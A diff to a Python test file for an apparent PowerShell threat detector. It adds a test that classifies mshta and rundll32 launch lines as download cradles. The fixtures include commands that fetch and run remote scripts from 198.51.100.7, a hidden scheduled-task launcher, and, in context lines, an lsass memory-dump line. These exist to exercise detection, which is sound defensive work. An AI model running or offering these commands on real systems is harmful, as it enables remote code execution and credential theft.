@@ -50,3 +50,13 @@ def test_rundll32_with_another_dll_or_export_is_no_dump(dll: str) -> None:
         rundll32.exe "$env:SystemRoot\\System32\\shell32.dll", MiniDump $lsass.Id
     """)
     assert lines_of(result, "PSCredentialDumping") == []
+
+
+def test_an_inline_script_run_by_mshta_is_no_download_unless_it_fetches_a_url() -> None:
+    result = analyze("""
+        $a = New-ScheduledTaskAction -Execute 'mshta.exe' -Argument 'vbscript:Execute("CreateObject(""WScript.Shell"").Run ""powershell -nop -f C:\\ProgramData\\u.ps1"", 0:close")'
+        mshta vbscript:Execute("CreateObject(""WScript.Shell"").Run ""powershell -nop -f C:\\ProgramData\\u.ps1"",0:close")
+        $b = New-ScheduledTaskAction -Execute 'mshta.exe' -Argument 'vbscript:Execute("CreateObject(""WScript.Shell"").Run ""powershell -c iex(iwr http://198.51.100.7/a.ps1)"", 0:close")'
+        rundll32.exe 'javascript:"\\..\\mshtml,RunHTMLApplication ";document.write();GetObject("script:http://198.51.100.7/r.sct")'
+    """)
+    assert lines_of(result, "PSDownloadCradle") == [3, 4]
